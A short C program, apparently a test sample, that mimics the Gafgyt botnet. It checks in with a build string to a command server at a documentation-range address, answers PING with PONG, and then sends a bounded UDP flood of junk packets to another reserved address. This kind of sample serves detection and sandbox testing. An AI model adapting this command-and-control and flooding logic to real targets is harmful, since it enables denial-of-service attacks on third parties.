/* Like Gafgyt: an address in plain text, a hello with its build, answers to pings, and a flood. */
#include "bot.h"

static void flood(void)
{
	char junk[512];
	memset(junk, 'x', sizeof junk);
	const int fd = call_address(0xcb007109, 8080, SOCK_DGRAM, 100); /* 203.0.113.9 */
	for (unsigned i = 0; i < 5000; i++)
		if (send(fd, junk, sizeof junk, 0) < 0)
			usleep(1000);
	close(fd);
}

int main(void)
{
	struct in_addr a;
	char order[512];
	inet_aton("198.51.100.200", &a);
	const int fd = call_address(ntohl(a.s_addr), 666, SOCK_STREAM, 3000);
	struct pollfd p = {.fd = fd, .events = POLLIN};
	if (fd < 0 || send(fd, "BUILD MIPS:test\n", 16, MSG_NOSIGNAL) != 16)
		return 1;
	for (unsigned i = 0; i < 3; i++) {
		const ssize_t n = poll(&p, 1, 1000) == 1 ? recv(fd, order, sizeof order - 1, 0) : 0;
		if (n > 3 && strncmp(order, "PING", 4) == 0 && send(fd, "PONG\n", 5, MSG_NOSIGNAL) < 0)
			return 1;
	}
	flood();
	close(fd);
	return 0;
}
